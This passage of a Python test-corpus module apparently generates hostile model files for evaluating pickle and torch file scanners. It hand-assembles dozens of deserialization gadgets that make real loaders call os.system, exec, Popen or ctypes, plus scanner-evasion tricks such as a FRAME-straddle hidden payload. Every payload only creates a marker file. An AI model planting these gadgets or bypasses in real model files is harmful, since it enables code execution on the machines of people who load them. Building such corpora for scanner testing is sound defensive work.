"""A hostile corpus: files the real loaders execute, written with harmless marker payloads only.

Every payload here has one effect when the loader named in its meta runs it: it creates an empty
file at a marker path baked into the file (``open(marker, 'w').close()``, ``touch marker`` through
``os.system`` / ``subprocess``, ``logging.FileHandler(marker)``...). Nothing deletes, downloads or
reaches the network. Nothing here runs a payload: builders only write bytes.

The attack kinds are the ones the peer scanners' public test samples and published bypasses show
(picklescan's ``tests/init_data_files.py``, modelscan's ``tests/test_modelscan.py``, fickling's
``test/test_bypasses.py``), plus archive and container tricks aimed at readers that are not the
loader's (torch's miniz zip reader, its legacy five-pickle and tar paths, ``torch.export.load``,
``torch.distributed.checkpoint.load``, ``np.load``). The opcodes are written here, not copied.

    from hostile import build_corpus, measure_in_one_process
    entries = build_corpus("/tmp/corpus")          # [(path, meta), ...]
    seen = measure_in_one_process(entries)         # {name: {"executes": bool, "error": str}}

``meta`` of each file: ``name`` (unique, also its file name), ``kind``, ``container`` (bare, zip,
legacy, tar, pt2, dcp, npy, npz), ``loader`` (the real loader that runs it), ``executes`` (True
when that loader creates the marker, as measured with torch 2.14 / Python 3.11 / numpy 2.4; False
when it was measured not to; None for native code that is dangerous without being run here),
``benign`` (a look-alike that must not be called dangerous), ``heavy`` (a DoS input or a bomb:
left out of the in-process measurement), ``marker`` and ``note``.

Files are deterministic for a given (folder, markers) pair, byte for byte (torch's random
serialization ids are replaced by a fixed one), except what torch writes with ids of its own
inside: the benign legacy file (storage keys are object ids) and the DCP folders (save ids).
"""
from __future__ import annotations

import importlib.util
import io
import json
import marshal
import os
import pickle
import shlex
import struct
import subprocess
import sys
import tarfile
import textwrap
import time
import zlib
from typing import Callable, Dict, List, Optional, Sequence, Tuple

TORCH_LOAD = "torch.load(weights_only=False)"
PICKLE_LOAD = "pickle.load"
NP_LOAD = "np.load(allow_pickle=True)"
EXPORT_LOAD = "torch.export.load"
DCP_LOAD = "dcp.load"
JIT_LOAD = "torch.jit.load"

MAGIC = 0x1950A86A20F9469CFC6C
SERIAL_ID = "0" * 40
HERE = os.path.dirname(os.path.abspath(__file__))

Entry = Tuple[str, dict]


# --------------------------------------------------------------------------------------------
# Pickle opcodes, assembled by hand (each helper takes the protocol it writes for)

def s(text: str, proto: int) -> bytes:
    """A str: UNICODE in protocol 0, BINUNICODE in 1-3, SHORT_BINUNICODE from 4."""
    if proto == 0:
        if "\n" in text or "\\" in text:
            raise ValueError("protocol-0 text must have no newline or backslash")
        return b"V" + text.encode("raw_unicode_escape") + b"\n"
    b = text.encode("utf-8")
    if proto >= 4 and len(b) < 256:
        return b"\x8c" + bytes([len(b)]) + b
    return b"X" + struct.pack("<I", len(b)) + b


def byts(data: bytes, proto: int) -> bytes:
    """A bytes object: BINBYTES from protocol 3, ``_codecs.encode(latin-1 text)`` before (as pickle does)."""
    if proto >= 3:
        if len(data) < 256:
            return b"C" + bytes([len(data)]) + data
        return b"B" + struct.pack("<I", len(data)) + data
    text = data.decode("latin-1")
    if proto == 0:
        body = b"V" + text.encode("raw_unicode_escape") + b"\n"
        if b"\n" in body[1:-1]:
            raise ValueError("bytes with a newline need protocol >= 1")
    else:
        raw = text.encode("utf-8")
        body = b"X" + struct.pack("<I", len(raw)) + raw
    return glob("_codecs", "encode", proto) + tup([body, s("latin1", proto)], proto) + b"R"


def num(n: int, proto: int) -> bytes:
    """A small int: INT in protocol 0, BININT1 / BININT after."""
    if proto == 0:
        return b"I%d\n" % n
    if 0 <= n < 256:
        return b"K" + bytes([n])
    return b"J" + struct.pack("<i", n)


def glob(module: str, name: str, proto: int) -> bytes:
    """GLOBAL before protocol 4, STACK_GLOBAL from 4."""
    if proto >= 4:
        return s(module, proto) + s(name, proto) + b"\x93"
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def tup(items: Sequence[bytes], proto: int) -> bytes:
    if proto >= 2 and len(items) <= 3:
        return b"".join(items) + (b")", b"\x85", b"\x86", b"\x87")[len(items)]
    return b"(" + b"".join(items) + b"t"


def lst(items: Sequence[bytes], proto: int) -> bytes:
    if proto == 0:
        return b"(" + b"".join(items) + b"l"
    return b"]" + (b"(" + b"".join(items) + b"e" if items else b"")


def dct(pairs: Sequence[Tuple[bytes, bytes]], proto: int) -> bytes:
    body = b"".join(k + v for k, v in pairs)
    if proto == 0:
        return b"(" + body + b"d"
    return b"}" + (b"(" + body + b"u" if pairs else b"")


def call(fn: bytes, args: Sequence[bytes], proto: int) -> bytes:
    return fn + tup(args, proto) + b"R"


def put(i: int, proto: int) -> bytes:
    if proto == 0:
        return b"p%d\n" % i
    return b"q" + bytes([i]) if i < 256 else b"r" + struct.pack("<I", i)


def get(i: int, proto: int) -> bytes:
    if proto == 0:
        return b"g%d\n" % i
    return b"h" + bytes([i]) if i < 256 else b"j" + struct.pack("<I", i)


def pk(body: bytes, proto: int, frame: bool = False) -> bytes:
    """A whole pickle: PROTO (from 2), one FRAME around the body if asked (4+), STOP."""
    head = b"\x80" + bytes([proto]) if proto >= 2 else b""
    if frame:
        body = body + b"."
        return head + b"\x95" + struct.pack("<Q", len(body)) + body
    return head + body + b"."


def code(marker: str) -> str:
    """Python source whose only effect is creating the marker file."""
    if "'" in marker or "\\" in marker or "\n" in marker:
        raise ValueError(f"unusable marker path {marker!r}")
    return f"open('{marker}','w').close()"


def cmd(marker: str) -> str:
    """A shell command whose only effect is creating the marker file."""
    return "touch " + shlex.quote(marker)


# --------------------------------------------------------------------------------------------
# Gadgets: (marker, proto) -> a whole pickle that creates the marker when unpickled

def _g_exec(m: str, p: int) -> bytes:
    mod = "__builtin__" if p in (0, 2) else "builtins"  # the py2 spelling pickle's fix_imports maps
    return pk(call(glob(mod, "exec", p), [s(code(m), p)], p), p)


def _g_system(m: str, p: int) -> bytes:
    return pk(call(glob("os", "system", p), [s(cmd(m), p)], p), p, frame=p >= 4)


def _g_posix(m: str, p: int) -> bytes:
    return pk(call(glob("posix", "system", p), [s(cmd(m), p)], p), p)


def _g_eval(m: str, p: int) -> bytes:
    return pk(call(glob("builtins", "eval", p), [s(code(m), p)], p), p)


def _g_inst_system(m: str, p: int) -> bytes:
    # INST: MARK args... 'i' module\n name\n  -> calls module.name(*args)
    return pk(b"(" + s(cmd(m), p) + b"ios\nsystem\n", p)


def _g_inst_popen(m: str, p: int) -> bytes:
    return pk(b"(" + lst([s("touch", p), s(m, p)], p) + b"isubprocess\nPopen\n", p)


def _g_obj_system(m: str, p: int) -> bytes:
    # OBJ: MARK callable args... 'o'
    return pk(b"(" + glob("os", "system", p) + s(cmd(m), p) + b"o", p)


def _g_obj_popped(m: str, p: int) -> bytes:
    # the OBJ call's result is thrown away; the pickle returns None
    return pk(b"(" + glob("builtins", "exec", p) + s(code(m), p) + b"o0N", p)


def _g_newobj_popen(m: str, p: int) -> bytes:
    # NEWOBJ calls cls.__new__(cls, *args): Popen.__new__ is object.__new__, which runs nothing
    return pk(glob("subprocess", "Popen", p) + tup([lst([s("touch", p), s(m, p)], p)], p) + b"\x81", p)


def _g_newobj_ex_popen(m: str, p: int) -> bytes:
    return pk(glob("subprocess", "Popen", p) + tup([lst([s("touch", p), s(m, p)], p)], p) + b"}" + b"\x92", p)


def _setstate_injection(head: bytes, m: str, p: int) -> bytes:
    # BUILD 1: no __setstate__ on the class, so the state dict goes into the instance __dict__,
    # planting an instance attribute '__setstate__'; BUILD 2 then calls it with its state.
    state1 = dct([(s("__setstate__", p), glob("builtins", "exec", p))], p)
    return pk(head + state1 + b"b" + s(code(m), p) + b"b", p)


def _g_setstate_newobj(m: str, p: int) -> bytes:
    return _setstate_injection(glob("collections", "OrderedDict", p) + b")\x81", m, p)


def _g_setstate_newobj_ex(m: str, p: int) -> bytes:
    return _setstate_injection(glob("argparse", "Namespace", p) + b")}\x92", m, p)


def _g_setstate_reduce(m: str, p: int) -> bytes:
    return _setstate_injection(call(glob("types", "SimpleNamespace", p), [], p), m, p)


def _g_getattr_import(m: str, p: int) -> bytes:
    osmod = call(glob("builtins", "__import__", p), [s("os", p)], p)
    system = call(glob("builtins", "getattr", p), [osmod, s("system", p)], p)
    return pk(call(system, [s(cmd(m), p)], p), p)


def _g_getattr_module_global(m: str, p: int) -> bytes:
    # the os module itself, reached as an attribute of torch.serialization by a plain GLOBAL
    system = call(glob("builtins", "getattr", p), [glob("torch.serialization", "os", p), s("system", p)], p)
    return pk(call(system, [s(cmd(m), p)], p), p)


def _g_attrgetter(m: str, p: int) -> bytes:
    getter = call(glob("operator", "attrgetter", p), [s("system", p)], p)
    osmod = call(glob("builtins", "__import__", p), [s("os", p)], p)
    system = call(getter, [osmod], p)
    return pk(call(system, [s(cmd(m), p)], p), p)


def _g_methodcaller(m: str, p: int) -> bytes:
    caller = call(glob("_operator", "methodcaller", p), [s("system", p), s(cmd(m), p)], p)
    return pk(call(caller, [glob("numpy.testing._private.utils", "os", p)], p), p)


def _g_partial(m: str, p: int) -> bytes:
    part = call(glob("functools", "partial", p), [glob("os", "system", p), s(cmd(m), p)], p)
    return pk(call(part, [], p), p)


def _g_partial_build_swap(m: str, p: int) -> bytes:
    # partial(print) is harmless; its BUILD state (func, args, kwds, dict) swaps in exec and a code string
    part = call(glob("functools", "partial", p), [glob("builtins", "print", p)], p)
    state = tup([glob("builtins", "exec", p), tup([s(code(m), p)], p), b"}", b"N"], p)
    return pk(call(part + state + b"b", [], p), p)


def _g_functools_reduce(m: str, p: int) -> bytes:
    # reduce(exec, [{}], code) == exec(code, {})
    return pk(call(glob("functools", "reduce", p), [glob("builtins", "exec", p), lst([b"}"], p), s(code(m), p)], p), p)


def _g_map_list(m: str, p: int) -> bytes:
    it = call(glob("builtins", "map", p), [glob("os", "system", p), lst([s(cmd(m), p)], p)], p)
    return pk(call(glob("builtins", "list", p), [it], p), p)


def _g_filter_tuple(m: str, p: int) -> bytes:
    it = call(glob("builtins", "filter", p), [glob("builtins", "exec", p), lst([s(code(m), p)], p)], p)
    return pk(call(glob("builtins", "tuple", p), [it], p), p)


def _g_reconstructor(m: str, p: int) -> bytes:
    # copyreg._reconstructor(cls, base, state) calls base.__init__(obj, state): Popen.__init__(['touch', m])
    popen = glob("subprocess", "Popen", p)
    argv = lst([s("touch", p), s(m, p)], p)
    return pk(call(glob("copy_reg" if p == 0 else "copyreg", "_reconstructor", p), [popen, popen, argv], p), p)


def _g_ext_registered(m: str, p: int) -> bytes:
    # the pickle registers its own extension code, then EXT2 fetches os.system by it
    reg = call(glob("copyreg", "add_extension", p), [s("os", p), s("system", p), num(4242, p)], p)
    return pk(reg + b"0" + b"\x83" + struct.pack("<H", 4242) + tup([s(cmd(m), p)], p) + b"R", p)


def _ext(op: bytes) -> Callable[[str, int], bytes]:
    def build(m: str, p: int) -> bytes:
        return pk(op + tup([s(cmd(m), p)], p) + b"R", p)
    return build


def _g_pickle_loads(m: str, p: int) -> bytes:
    return pk(call(glob("pickle", "loads", p), [byts(_g_system(m, 4), p)], p), p)


def _g_c_pickle_loads(m: str, p: int) -> bytes:
    return pk(call(glob("_pickle", "loads", p), [byts(_g_exec(m, 2), p)], p), p)


def _g_codecs_nested(m: str, p: int) -> bytes:
    inner = _g_exec(m, 1)  # binary, no newline inside
    enc = call(glob("_codecs", "encode", p), [s(inner.decode("latin-1"), p), s("latin1", p)], p)
    return pk(call(glob("pickle", "loads", p), [enc], p), p)


def _g_load_from_bytes(m: str, p: int) -> bytes:
    # torch.storage._load_from_bytes(b) == torch.load(io.BytesIO(b), weights_only=False)
    return pk(call(glob("torch.storage", "_load_from_bytes", p), [byts(torch_zip_bytes(_g_exec(m, 2)), p)], p), p)


def _g_torch_load_bytesio(m: str, p: int) -> bytes:
    # partial(torch.load, weights_only=False) built by NEWOBJ_EX, called on io.BytesIO(zip bytes)
    loader = glob("functools", "partial", p) + tup([glob("torch", "load", p)], p) + \
        dct([(s("weights_only", p), b"\x89")], p) + b"\x92"
    bio = call(glob("io", "BytesIO", p), [byts(torch_zip_bytes(_g_system(m, 4)), p)], p)
    return pk(call(loader, [bio], p), p)


def _dotted(module: str, name: str) -> Callable[[str, int], bytes]:
    def build(m: str, p: int) -> bytes:
        return pk(call(glob(module, name, p), [s(cmd(m), p)], p), p)
    return build


def _g_dotted_global_op(m: str, p: int) -> bytes:
    # GLOBAL (not STACK_GLOBAL) with a dotted name: resolved as a path only when PROTO >= 4
    return pk(b"ctorch.serialization\nos.system\n" + tup([s(cmd(m), p)], p) + b"R", p)


def _g_eval_call(m: str, p: int) -> bytes:
    return pk(b"cbuiltins\neval.__call__\n" + tup([s(code(m), p)], p) + b"R", p)


def _g_memo_names(m: str, p: int) -> bytes:
    # harmless names and harmful ones pushed into the memo; STACK_GLOBAL takes the harmful pair
    body = b"".join([s("os", p), put(2, p), b"0", s("system", p), put(3, p), b"0",
                     s("torch", p), put(0, p), b"0", s("LongStorage", p), put(1, p), b"0",
                     get(2, p), get(3, p), b"\x93", b"(", s(cmd(m), p), b"tR"])
    return pk(body, p)


def _g_string_stack_global(m: str, p: int) -> bytes:
    # STRING ('S') operands for STACK_GLOBAL, no PROTO at all
    return b"S'os'\nS'system'\n\x93S'" + cmd(m).encode() + b"'\n\x85R."


def _g_payload_then_keyerror(m: str, p: int) -> bytes:
    return pk(call(glob("os", "system", p), [s(cmd(m), p)], p) + b"0" + get(7, p) + get(0, p) + b"\x93", p)


def _g_payload_then_truncated(m: str, p: int) -> bytes:
    return b"cbuiltins\nexec\n(" + s(code(m), 1) + b"tRX."


def _g_marshal_function(m: str, p: int) -> bytes:
    co = compile(code(m), "<marker>", "exec")
    codeobj = call(glob("marshal", "loads", p), [byts(marshal.dumps(co), p)], p)
    fn = call(glob("types", "FunctionType", p), [codeobj, b"}"], p)
    return pk(call(fn, [], p), p)


def _g_compile_eval(m: str, p: int) -> bytes:
    co = call(glob("__builtin__", "compile", p), [s(code(m), p), s("<m>", p), s("exec", p)], p)
    return pk(call(glob("__builtin__", "eval", p), [co], p), p)


def _simple(module: str, name: str, args: Callable[[str, int], List[bytes]]) -> Callable[[str, int], bytes]:
    def build(m: str, p: int) -> bytes:
        return pk(call(glob(module, name, p), args(m, p), p), p)
    return build


def _g_code_interpreter(m: str, p: int) -> bytes:
    caller = call(glob("operator", "methodcaller", p), [s("runsource", p), s(code(m), p)], p)
    interp = call(glob("code", "InteractiveInterpreter", p), [], p)
    return pk(call(caller, [interp], p), p)


def _g_pydoc_locate(m: str, p: int) -> bytes:
    fn = call(glob("pydoc", "locate", p), [s("os.system", p)], p)
    return pk(call(fn, [s(cmd(m), p)], p), p)


def _g_pkgutil_resolve(m: str, p: int) -> bytes:
    fn = call(glob("pkgutil", "resolve_name", p), [s("os:system", p)], p)
    return pk(call(fn, [s(cmd(m), p)], p), p)


def _g_import_module(m: str, p: int) -> bytes:
    osmod = call(glob("importlib", "import_module", p), [s("os", p)], p)
    fn = call(glob("builtins", "getattr", p), [osmod, s("system", p)], p)
    return pk(call(fn, [s(cmd(m), p)], p), p)


def _g_ctypes(m: str, p: int) -> bytes:
    libc = call(glob("ctypes", "CDLL", p), [b"N"], p)
    fn = call(glob("builtins", "getattr", p), [libc, s("system", p)], p)
    return pk(call(fn, [byts(cmd(m).encode(), p)], p), p)


def _g_environ(m: str, p: int) -> bytes:
    # os._Environ.__setitem__ calls self.encodekey(key): an instance attribute BUILD sets
    env = glob("os", "_Environ", p) + b")\x81"
    state = dct([(s("_data", p), b"}"), (s("encodekey", p), glob("os", "system", p)),
                 (s("decodekey", p), glob("builtins", "str", p)), (s("encodevalue", p), glob("builtins", "str", p)),
                 (s("decodevalue", p), glob("builtins", "str", p))], p)
    return pk(env + state + b"b" + b"(" + s(cmd(m), p) + s("1", p) + b"u", p)


def _g_appends_extend(m: str, p: int) -> bytes:
    # APPENDS on an object that is not a list calls its 'extend' (here an instance attribute)
    obj = glob("collections", "OrderedDict", p) + b")\x81"
    state = dct([(s("extend", p), glob("subprocess", "Popen", p))], p)
    return pk(obj + state + b"b(" + s("touch", p) + s(m, p) + b"e", p)


def _g_append_attr(m: str, p: int) -> bytes:
    # APPEND on an object with no 'extend' calls its 'append'
    obj = call(glob("types", "SimpleNamespace", p), [], p)
    state = dct([(s("append", p), glob("os", "system", p))], p)
    return pk(obj + state + b"b" + s(cmd(m), p) + b"a", p)


def _g_additems_add(m: str, p: int) -> bytes:
    # ADDITEMS on an object that is not a set calls its 'add'
    obj = glob("argparse", "Namespace", p) + b")\x81"
    state = dct([(s("add", p), glob("builtins", "exec", p))], p)
    return pk(obj + state + b"b(" + s(code(m), p) + b"\x90", p)


def _g_frame_straddle(m: str, p: int) -> bytes:
    # A FRAME declares fewer bytes than the BINBYTES inside it reads: pickle.load(file) reads past
    # the frame and runs the GLOBAL/REDUCE a frame-respecting walker sees as bytes data.
    hidden = b"cos\nsystem\n" + s(cmd(m), 2) + b"\x85R"
    return (b"\x80\x05N" + b"V" + b"a" * (8192 * 16 - 17) + b"\n0(" + b"\x95" + struct.pack("<Q", 2) +
            b"B" + struct.pack("<I", 0x107) + b"\x00\x00" + (hidden + b"(").ljust(256 + 5, b"N") + b"1.")


def _g_rebuild_from_type(m: str, p: int) -> bytes:
    # torch._tensor._rebuild_from_type_v2(func, new_type, args, state) calls func(*args)
    fn = glob("torch._tensor", "_rebuild_from_type_v2", p)
    return pk(call(fn, [glob("os", "system", p), glob("torch", "Tensor", p), tup([s(cmd(m), p)], p), b"N"], p), p)


def _g_torch_size_of_map(m: str, p: int) -> bytes:
    # torch.Size(iterable) consumes a map object: each item is a call of the mapped function
    it = call(glob("builtins", "map", p), [glob("os", "system", p), lst([s(cmd(m), p)], p)], p)
    return pk(call(glob("torch", "Size", p), [it], p), p)


def _g_ordereddict_of_map(m: str, p: int) -> bytes:
    it = call(glob("builtins", "map", p), [glob("builtins", "exec", p), lst([s(code(m), p)], p)], p)
    return pk(call(glob("collections", "OrderedDict", p), [it], p), p)


def _g_dup_call(m: str, p: int) -> bytes:
    # DUP the callable, drop one copy, call the other
    return pk(glob("os", "system", p) + b"20" + tup([s(cmd(m), p)], p) + b"R", p)


def _g_memo_callable(m: str, p: int) -> bytes:
    # the callable goes into the memo and is called from there, much later
    return pk(glob("builtins", "exec", p) + put(5, p) + b"0" + lst([num(1, p), num(2, p)], p) + b"0" +
              get(5, p) + tup([s(code(m), p)], p) + b"R", p)


def _g_payload_in_persid(m: str, p: int) -> bytes:
    # the persistent id tuple is built (running the payload) before persistent_load sees it
    run = call(glob("builtins", "exec", p), [s(code(m), p)], p)
    pid = tup([s("storage", p), run, s("0", p), s("cpu", p), num(1, p)], p)
    return pk(pid + b"Q", p)


def _argsfn(*kinds: str) -> Callable[[str, int], List[bytes]]:
    def args(m: str, p: int) -> List[bytes]:
        out = []
        for k in kinds:
            out.append({"code": lambda: s(code(m), p), "cmd": lambda: s(cmd(m), p), "m": lambda: s(m, p),
                        "w": lambda: s("w", p), "empty": lambda: s("", p), "dict": lambda: b"}",
                        "list": lambda: b"]", "touch": lambda: s("touch", p)}[k]())
        return out
    return args


# name -> (builder, protocols, note, executes when measured)
GADGETS: Dict[str, Tuple[Callable[[str, int], bytes], Tuple[int, ...], str, bool]] = {
    "exec": (_g_exec, (0, 1, 2, 3), "builtins.exec by GLOBAL (__builtin__ in 0 and 2)", True),
    "os_system": (_g_system, (4, 5), "os.system by STACK_GLOBAL, framed", True),
    "posix_system": (_g_posix, (4,), "posix.system", True),
    "eval": (_g_eval, (2,), "builtins.eval", True),
    "inst_system": (_g_inst_system, (0,), "INST os system", True),
    "inst_popen": (_g_inst_popen, (0,), "INST subprocess Popen", True),
    "obj_system": (_g_obj_system, (1,), "OBJ os.system", True),
    "obj_popped": (_g_obj_popped, (4,), "OBJ exec whose result is POPped", True),
    "newobj_popen": (_g_newobj_popen, (2,), "NEWOBJ Popen: __new__ only, runs nothing", False),
    "newobj_ex_popen": (_g_newobj_ex_popen, (4,), "NEWOBJ_EX Popen: __new__ only, runs nothing", False),
    "setstate_newobj": (_g_setstate_newobj, (2,), "OrderedDict + BUILD __setstate__=exec + BUILD", True),
    "setstate_newobj_ex": (_g_setstate_newobj_ex, (4,), "Namespace NEWOBJ_EX + BUILD __setstate__ + BUILD", True),
    "setstate_reduce": (_g_setstate_reduce, (2,), "SimpleNamespace() + BUILD __setstate__ + BUILD", True),
    "getattr_import": (_g_getattr_import, (0, 2), "getattr(__import__('os'),'system')", True),
    "getattr_module_global": (_g_getattr_module_global, (2,), "getattr(GLOBAL torch.serialization.os, 'system')", True),
    "attrgetter": (_g_attrgetter, (4,), "operator.attrgetter('system')(__import__('os'))", True),
    "methodcaller": (_g_methodcaller, (2,), "_operator.methodcaller('system', c)(numpy...utils.os)", True),
    "partial": (_g_partial, (2,), "functools.partial(os.system, c)()", True),
    "partial_build_swap": (_g_partial_build_swap, (2,), "partial(print) whose BUILD state swaps in exec", True),
    "functools_reduce": (_g_functools_reduce, (2,), "functools.reduce(exec, [{}], code)", True),
    "map_list": (_g_map_list, (2,), "list(map(os.system, [c]))", True),
    "filter_tuple": (_g_filter_tuple, (4,), "tuple(filter(exec, [code]))", True),
    "reconstructor": (_g_reconstructor, (2, 0), "copyreg._reconstructor(Popen, Popen, argv) (copy_reg in 0)", True),
    "rebuild_from_type_callback": (_g_rebuild_from_type, (2,), "torch._tensor._rebuild_from_type_v2(os.system, ...)", True),
    "torch_size_of_map": (_g_torch_size_of_map, (2,), "torch.Size(map(os.system, [c]))", True),
    "ordereddict_of_map": (_g_ordereddict_of_map, (4,), "collections.OrderedDict(map(exec, [code]))", True),
    "dup_call": (_g_dup_call, (2,), "DUP of os.system, POP, REDUCE", True),
    "memo_callable": (_g_memo_callable, (1,), "exec PUT, popped, GET much later and called", True),
    "payload_in_persid": (_g_payload_in_persid, (2,), "exec inside a persistent id tuple (BINPERSID)", True),
    "ext_registered": (_g_ext_registered, (2,), "copyreg.add_extension then EXT2", True),
    "ext1_unregistered": (_ext(b"\x82\xf1"), (2,), "EXT1 241, nothing registered: ValueError", False),
    "ext2_unregistered": (_ext(b"\x83" + struct.pack("<H", 1234)), (2,), "EXT2 1234 unregistered", False),
    "ext4_unregistered": (_ext(b"\x84" + struct.pack("<i", 0x123456)), (2,), "EXT4 unregistered", False),
    "pickle_loads_nested": (_g_pickle_loads, (4,), "pickle.loads(BINBYTES of a payload pickle)", True),
    "c_pickle_loads_nested": (_g_c_pickle_loads, (2,), "_pickle.loads(_codecs.encode bytes)", True),
    "codecs_nested": (_g_codecs_nested, (2,), "pickle.loads(_codecs.encode(text, 'latin1'))", True),
    "load_from_bytes_nested": (_g_load_from_bytes, (2,), "torch.storage._load_from_bytes(torch zip bytes)", True),
    "torch_load_bytesio": (_g_torch_load_bytesio, (4,), "partial(torch.load, weights_only=False)(BytesIO(zip))", True),
    "dotted_torch_os_system": (_dotted("torch.serialization", "os.system"), (4,), "STACK_GLOBAL torch.serialization os.system", True),
    "dotted_numpy_os_system": (_dotted("numpy.testing._private.utils", "os.system"), (4,), "numpy.testing._private.utils os.system", True),
    "dotted_pathlib_os_system": (_dotted("pathlib", "os.system"), (4,), "pathlib os.system", True),
    "dotted_global_opcode": (_g_dotted_global_op, (4, 2), "GLOBAL with a dotted name: a path only under PROTO 4", True),
    "eval_dunder_call": (_g_eval_call, (4,), "GLOBAL builtins eval.__call__", True),
    "memo_names": (_g_memo_names, (0,), "names swapped through PUT/GET before STACK_GLOBAL", True),
    "string_stack_global": (_g_string_stack_global, (0,), "STRING opcodes under STACK_GLOBAL, no PROTO", True),
    "payload_then_keyerror": (_g_payload_then_keyerror, (4,), "payload, then a memo KeyError", True),
    "payload_then_truncated": (_g_payload_then_truncated, (1,), "payload, then a truncated BINUNICODE", True),
    "marshal_function": (_g_marshal_function, (4,), "types.FunctionType(marshal.loads(code), {})()", True),
    "compile_eval": (_g_compile_eval, (0,), "eval(compile(code))", True),
    "runpy_run_code": (_simple("runpy", "_run_code", _argsfn("code", "dict")), (4,), "runpy._run_code", True),
    "timeit": (_simple("timeit", "timeit", _argsfn("empty", "code")), (4,), "timeit.timeit('', setup)", True),
    "cprofile_runctx": (_simple("cProfile", "runctx", _argsfn("code", "dict", "dict")), (4,), "cProfile.runctx", True),
    "numpy_runstring": (_simple("numpy.testing._private.utils", "runstring", _argsfn("code", "dict")), (4,), "numpy runstring", True),
    "exec_wrapper": (_simple("torch.jit.unsupported_tensor_ops", "execWrapper", _argsfn("code", "dict", "dict")), (4,), "torch execWrapper", True),
    "collect_env_run": (_simple("torch.utils.collect_env", "run", _argsfn("cmd")), (4,), "torch.utils.collect_env.run", True),
    "code_interpreter": (_g_code_interpreter, (4,), "methodcaller('runsource')(code.InteractiveInterpreter())", True),
    "pydoc_locate": (_g_pydoc_locate, (4,), "pydoc.locate('os.system')", True),
    "pkgutil_resolve_name": (_g_pkgutil_resolve, (4,), "pkgutil.resolve_name('os:system')", True),
    "import_module": (_g_import_module, (4,), "getattr(importlib.import_module('os'), 'system')", True),
    "uuid_command": (_simple("uuid", "_get_command_stdout", _argsfn("touch", "m")), (4,), "uuid._get_command_stdout", True),
    "osx_support": (_simple("_osx_support", "_read_output", _argsfn("cmd")), (4,), "_osx_support._read_output", True),
    "imaplib_stream": (_simple("imaplib", "IMAP4_stream", _argsfn("cmd")), (4,), "imaplib.IMAP4_stream (shell)", True),
    "logging_filehandler": (_simple("logging", "FileHandler", _argsfn("m")), (4,), "logging.FileHandler(path) creates it", True),
    "builtins_open": (_simple("builtins", "open", _argsfn("m", "w")), (2,), "open(path, 'w')", True),
    "io_fileio": (_simple("_io", "FileIO", _argsfn("m", "w")), (4,), "_io.FileIO(path, 'w')", True),
    "distutils_write_file": (_simple("distutils.file_util", "write_file", _argsfn("m", "list")), (4,), "distutils write_file", True),
    "ctypes_system": (_g_ctypes, (4,), "getattr(ctypes.CDLL(None), 'system')", True),
    "environ_setitem": (_g_environ, (2,), "os._Environ + BUILD encodekey=os.system + SETITEMS", True),
    "appends_extend": (_g_appends_extend, (2,), "OrderedDict + BUILD extend=Popen + APPENDS", True),
    "append_attr": (_g_append_attr, (2,), "SimpleNamespace + BUILD append=os.system + APPEND", True),
    "additems_add": (_g_additems_add, (4,), "Namespace + BUILD add=exec + ADDITEMS", True),
    "frame_straddle": (_g_frame_straddle, (5,), "BINBYTES longer than its FRAME hides a GLOBAL/REDUCE", True),
}

# gadgets also planted as a legacy file's main pickle and in .npy object arrays
LEGACY_GADGETS = ("exec", "os_system", "inst_system", "obj_system", "setstate_newobj", "getattr_import",
                  "appends_extend", "environ_setitem", "dotted_torch_os_system", "codecs_nested",
                  "memo_names", "reconstructor", "frame_straddle")
NPY_GADGETS = ("exec", "getattr_import", "setstate_reduce")


# --------------------------------------------------------------------------------------------
# Zip archives, written field by field (torch's layout: 64-byte aligned data, 'FB' padding)

class ZipRec:
    """One record: what the central directory says, and what its local header says."""

    def __init__(self, name: str, data: bytes, method: int = 0, local_name: Optional[str] = None,
                 crc: Optional[int] = None, listed: bool = True, level: int = 6):
        self.name, self.data, self.method, self.listed = name, data, method, listed
        self.local_name = local_name if local_name is not None else name
        self.crc = zlib.crc32(data) if crc is None else crc
        if method == 8:
            c = zlib.compressobj(level, zlib.DEFLATED, -15)
            self.payload = c.compress(data) + c.flush()
        else:
            self.payload = data
        self.offset = 0


def _local(rec: ZipRec, offset: int, align: int) -> bytes:
    name = rec.local_name.encode()
    extra = b""
    if align:
        start = offset + 30 + len(name)
        pad = (-(start + 4)) % align
        extra = b"FB" + struct.pack("<H", pad) + b"Z" * pad
    return struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, rec.method, 0, 0x21, rec.crc,
                       len(rec.payload), len(rec.data), len(name), len(extra)) + name + extra + rec.payload


def _central(rec: ZipRec, base: int) -> bytes:
    name = rec.name.encode()
    return struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 0x31E, 20, 0, rec.method, 0, 0x21, rec.crc,
                       len(rec.payload), len(rec.data), len(name), 0, 0, 0, 0, 0, rec.offset - base) + name


def _eocd(n: int, size: int, offset: int) -> bytes:
    return struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, n, n, size, offset, 0)


def zip_bytes(recs: Sequence[ZipRec], prefix: bytes = b"", align: int = 64, base: int = 0,
              cd_order: Optional[Sequence[int]] = None) -> bytes:
    """Local records after ``prefix``, then one central directory (offsets stored minus ``base``)."""
    out = bytearray(prefix)
    for r in recs:
        r.offset = len(out)
        out += _local(r, len(out), align)
    order = cd_order if cd_order is not None else range(len(recs))
    listed = [recs[i] for i in order if recs[i].listed]
    cd = b"".join(_central(r, base) for r in listed)
    out += cd + _eocd(len(listed), len(cd), len(out) - base)
    return bytes(out)


def torch_records(data_pkl: bytes, archive: str = "archive", storages: Optional[Dict[str, bytes]] = None,
                  extra: Sequence[Tuple[str, bytes]] = ()) -> List[ZipRec]:
    """The records torch.save writes, in its order, around the given data.pkl."""
    recs = [ZipRec(f"{archive}/data.pkl", data_pkl), ZipRec(f"{archive}/.format_version", b"1"),
            ZipRec(f"{archive}/.storage_alignment", b"64"), ZipRec(f"{archive}/byteorder", b"little")]
    recs += [ZipRec(f"{archive}/data/{k}", v) for k, v in (storages or {}).items()]
    recs += [ZipRec(f"{archive}/{n}", b) for n, b in extra]
    recs += [ZipRec(f"{archive}/version", b"3\n"), ZipRec(f"{archive}/.data/serialization_id", SERIAL_ID.encode())]
    return recs


def torch_zip_bytes(data_pkl: bytes) -> bytes:
    return zip_bytes(torch_records(data_pkl))


def rewrite_torch_zip(path: str, replace: Optional[Dict[str, bytes]] = None, add: Sequence[Tuple[str, bytes]] = ()) -> None:
    """Re-lay a torch-written archive with our writer: fixed serialization id, records replaced/added."""
    import zipfile
    with zipfile.ZipFile(path) as z:
